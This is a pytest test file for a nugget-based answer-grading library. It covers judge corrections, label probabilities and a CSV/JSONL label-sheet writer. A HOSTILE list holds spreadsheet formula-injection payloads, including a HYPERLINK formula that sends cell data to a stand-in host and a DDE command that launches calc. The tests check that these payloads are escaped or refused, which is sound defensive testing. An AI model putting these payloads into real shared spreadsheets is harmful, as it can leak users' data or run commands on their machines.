"""Judge files in a run: the labels are those of the correction, per topic, and a change is seen."""

import csv
import json

import pytest
from json_lines import read_rows, write_rows

import nuggetjudge as nj
from nuggetjudge.judges import JudgeFile
from nuggetjudge.judges.fitted import Correction, OrdinalCurve
from nuggetjudge.judges.lexical import overlap as lexical
from nuggetjudge.judges.table import find_judge
from nuggetjudge.programs.engine.label_sheet import CELL_CHARS, write_sheet
from nuggetjudge.records.labels import read_labels
from nuggetjudge.records.reading.problems import InputError, Problems

SENTENCES = [
    "tides follow the moon and the sun",
    "tides follow the wind and the stars",
    "kelp bends in rivers of cold water",
]
PASSAGE = "The moon and the sun make the tides. Kelp bends."
NUGGETS = ["the moon makes tides", "the sun makes tides", "kelp glows in winter"]


@pytest.fixture
def data(tmp_path):
    """Two topics with the same answer, the same nuggets and the same passage."""
    (tmp_path / "topics.tsv").write_text(
        "t1\tmoon tides sun\nt2\tmoon tides wind\n", encoding="utf-8"
    )
    passages = [{"docid": "p1", "text": PASSAGE}]
    answer = [{"text": text, "citations": [0]} for text in SENTENCES]
    runs, banks, pool = [], [], []
    for topic in ("t1", "t2"):
        about = {"run_id": "r", "topic_id": topic, "topic": "why"}
        runs.append({**about, "references": ["p1"], "response_length": 9, "answer": answer})
        nuggets = [{"text": text, "importance": "vital"} for text in NUGGETS]
        banks.append({"qid": topic, "query": "why", "nuggets": nuggets})
        pool.append({"topic_id": topic, "docids": ["p1"]})
    return {
        "topics": tmp_path / "topics.tsv",
        "passages": write_rows(tmp_path / "passages.jsonl", passages),
        "runs": str(write_rows(tmp_path / "r.jsonl", runs)),
        "nuggets": write_rows(tmp_path / "bank.jsonl", banks),
        "candidates": write_rows(tmp_path / "pool.jsonl", pool),
        "out": tmp_path / "out",
    }


PARTS = {
    "support": ("runs", "topics", "passages"),
    "nuggets": ("runs", "topics", "nuggets"),
    "relevance": ("topics", "passages", "candidates"),
}
OF_JUDGE = {  # program -> judge, its labels
    "support": ("support", ("none", "partial", "full")),
    "nuggets": ("assigner", ("not_support", "partial_support", "support")),
    "relevance": ("relevance", ("0", "1", "2", "3")),
}


@pytest.fixture
def run(data, tmp_path):
    """Runs a program with a correction, or a ready judge file, as the state of its judge."""

    def judged(program, correction=None, *, state=None, **settings):
        name, scale = OF_JUDGE[program]
        if correction is not None:
            state = tmp_path / "state.json"
            version = find_judge(name).load().version
            file = JudgeFile(judge=name, version=version, scale=scale, model="lexical",
                             correction=correction)  # fmt: skip
            state.write_text(file.text(), encoding="utf-8")
        if state is not None:
            settings[f"judges.{name}.state"] = str(state)
        given = {part: data[part] for part in ("out", *PARTS[program])}
        return nj.run(program=program, **given, **settings)

    return judged


def rows_of(folder, name):
    return read_rows(folder / name)


def test_support_labels_are_those_of_the_correction_and_shifts_are_of_their_topic(run, data):
    scores = [lexical.measure_support(text, PASSAGE) for text in SENTENCES]
    assert scores == sorted(scores, reverse=True)
    first, second, third = scores
    cuts = ((third + second) / 2, (second + first) / 2)
    run("support", Correction(cuts=cuts, topics={"t2": 1.0}))
    rows = rows_of(data["out"], "support.jsonl")
    labels = {topic: [r["label"] for r in rows if r["topic_id"] == topic] for topic in ("t1", "t2")}
    assert labels == {"t1": ["full", "partial", "none"], "t2": ["full", "full", "full"]}


def test_probabilities_of_a_curve_stand_beside_the_labels(run, data):
    curve = OrdinalCurve(slope=2.0, thresholds=(0.0, 1.0))
    correction = Correction(curve=curve, topics={"t2": 0.5})
    run("support", correction)
    for row in rows_of(data["out"], "support.jsonl"):
        sentence = SENTENCES[row["sentence"]]
        position = lexical.measure_support(sentence, PASSAGE) + (
            0.5 if row["topic_id"] == "t2" else 0
        )
        partial, full = curve.at_least(position)
        wanted = {"none": 1 - partial, "partial": partial - full, "full": full}
        assert row["probabilities"] == pytest.approx(wanted)


def test_a_state_with_fewer_labels_gives_those(run, data):
    run("support", Correction(cuts=(0.01,), labels=("none", "full")))
    rows = rows_of(data["out"], "support.jsonl")
    assert {row["label"] for row in rows} == {"full"}


def test_a_changed_state_is_judged_anew_and_told_in_the_manifest(run, data):
    def manifest():
        return json.loads((data["out"] / "manifest.json").read_text(encoding="utf-8"))

    run("support")
    assert manifest()["judges"]["support"]["state"] is None
    states_and_labels = []
    for cuts in ((2.0, 2.0), (-1.0, -1.0), (2.0, 2.0)):
        run("support", Correction(cuts=cuts), force=True)
        labels = {row["label"] for row in rows_of(data["out"], "support.jsonl")}
        states_and_labels.append((manifest()["judges"]["support"]["state"], labels))
    assert [labels for _, labels in states_and_labels] == [{"none"}, {"full"}, {"none"}]
    first, second, third = (state for state, _ in states_and_labels)
    assert first == third != second


def test_a_state_whose_labels_have_no_weight_is_refused(run):
    with pytest.raises(InputError, match="gives labels no, yes, but the run needs none, partial"):
        run("support", Correction(cuts=(0.5,), labels=("no", "yes")))


def test_a_state_of_another_judge_or_model_is_refused_by_file(run, tmp_path):
    (tmp_path / "other.json").write_text(
        JudgeFile(judge="relevance", version="1", scale=("0", "1"), model="lexical").text(),
        encoding="utf-8",
    )
    with pytest.raises(InputError, match=r"other.json: it belongs to the relevance judge"):
        run("support", state=tmp_path / "other.json")
    with pytest.raises(InputError, match=r"none.json: cannot be read"):
        run("support", state=tmp_path / "none.json")


def test_a_judge_without_a_prompt_of_ours_has_no_state(run, tmp_path):
    with pytest.raises(InputError, match=r"judges.rankllm.state: this judge uses its own prompts"):
        run("nuggets", **{"judges.rankllm.state": str(tmp_path / "state.json")})


# A sheet survives the spreadsheet: no formula runs, no id changes, no label is lost.
def row(**changed):
    return {
        "topic_id": "t1", "run_id": "a", "nugget_id": "n1", "question": "why", "answer_text": "so",
        "nugget": "fact", "label": None, "annotator": None, "rationale": None,
        "chosen_by": "random", "probability": 0.25,
    } | changed  # fmt: skip


HOSTILE = [
    '=HYPERLINK("http://x.test?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cannot_be_a_formula_in_any_column(tmp_path, text):
    path = tmp_path / "sheet.csv"
    write_sheet(path, [row(question=text, answer_text=text, nugget=text)], Problems())
    with path.open(encoding="utf-8-sig", newline="") as stream:
        (written,) = csv.DictReader(stream)
    for name in ("question", "answer_text", "nugget"):
        assert written[name] == "'" + text


@pytest.mark.parametrize(
    "text", ['a,"b"\nc\r\nd\re;f', "Ünïcode 潮汐 🌊", "\x00\x0b", "a = b", "'"]
)
def test_other_texts_stay_as_they_are(tmp_path, text):
    path = tmp_path / "sheet.csv"
    write_sheet(path, [row(answer_text=text), row(nugget_id="n2")], Problems())
    with path.open(encoding="utf-8-sig", newline="") as stream:
        assert [r["answer_text"] for r in csv.DictReader(stream)] == [text, "so"]
    labels = read_labels(path, problems := Problems())
    problems.raise_errors()
    assert labels.n_unlabelled == 2


@pytest.mark.parametrize("name", [f"{'x' * 300}.csv", "file/sheet.jsonl"])
def test_a_place_that_cannot_be_written_is_named(tmp_path, name):
    (tmp_path / "file").write_text("", encoding="utf-8")
    with pytest.raises(InputError, match=r"cannot be written \("):
        write_sheet(tmp_path / name, [row()], Problems())


@pytest.mark.parametrize("name", ["sheet.csv", "sheet.jsonl"])
def test_a_filled_sheet_is_read_as_it_is_and_an_empty_label_is_none(tmp_path, name):
    path = tmp_path / name
    ids = [f"n{i}" for i in range(3)]
    write_sheet(path, [row(nugget_id=i, question=HOSTILE[0]) for i in ids], Problems())
    if name.endswith(".csv"):
        with path.open(encoding="utf-8-sig", newline="") as stream:
            rows = list(csv.DictReader(stream))
        rows[0] |= {"label": "support", "annotator": "ann", "rationale": "=said"}
        rows[1] |= {"label": "Not_Support"}
        with path.open("w", encoding="utf-8", newline="") as stream:
            writer = csv.DictWriter(stream, rows[0])
            writer.writeheader()
            writer.writerows(rows)
    else:
        rows = read_rows(path)
        rows[0] |= {"label": "support", "annotator": "ann", "rationale": "said"}
        rows[1] |= {"label": "Not_Support"}
        write_rows(path, rows)
    labels = read_labels(path, problems := Problems())
    problems.raise_errors()
    assert labels.cells == {("t1", "a", "n0"): "support", ("t1", "a", "n1"): "not_support"}
    assert (labels.kind, labels.n_unlabelled) == ("nuggets", 1)
    assert labels.annotations[("t1", "a", "n0")] == {"ann": "support"}


def test_the_spreadsheet_is_told_that_it_is_utf8(tmp_path):
    write_sheet(tmp_path / "s.csv", [row()], Problems())
    assert (tmp_path / "s.csv").read_bytes().startswith(b"\xef\xbb\xbftopic_id,")


def test_an_id_that_would_be_a_formula_is_refused_rather_than_changed(tmp_path):
    rows = [row(run_id="=cmd")]
    with pytest.raises(InputError, match=r"run_id '=cmd' would be a formula .* \.jsonl"):
        write_sheet(tmp_path / "s.csv", rows, Problems())
    assert not (tmp_path / "s.csv").exists()
    write_sheet(tmp_path / "s.jsonl", rows, Problems())
    assert read_labels(tmp_path / "s.jsonl", Problems()).n_unlabelled == 1


@pytest.mark.parametrize("name", ["007", "1e5", "3-4", "2024/12/1", "12345678901234567", "TRUE"])
def test_an_id_that_a_spreadsheet_rewrites_is_mentioned(tmp_path, name):
    write_sheet(tmp_path / "s.csv", [row(topic_id=name)], problems := Problems())
    assert problems.counts() == {"spreadsheet_id": 1}


def test_a_text_that_no_cell_holds_is_cut_and_mentioned(tmp_path):
    rows = [row(answer_text="x" * 40_000)]
    write_sheet(tmp_path / "s.csv", rows, problems := Problems())
    assert problems.counts() == {"cut_text": 1}
    write_sheet(tmp_path / "fits.csv", [row(answer_text="x" * CELL_CHARS)], problems)
    assert problems.counts() == {"cut_text": 1}  # none more
    write_sheet(tmp_path / "s.jsonl", rows, Problems())
    assert (
        json.loads((tmp_path / "s.jsonl").read_text(encoding="utf-8"))["answer_text"]
        == "x" * 40_000
    )


def test_a_file_that_may_hold_labels_is_never_written_over(tmp_path):
    path = tmp_path / "s.csv"
    write_sheet(path, [row()], Problems())
    with pytest.raises(InputError, match="may hold labels"):
        write_sheet(path, [row()], Problems())
    with pytest.raises(InputError, match=r"ends in \.csv or \.jsonl"):
        write_sheet(tmp_path / "s.xlsx", [row()], Problems())
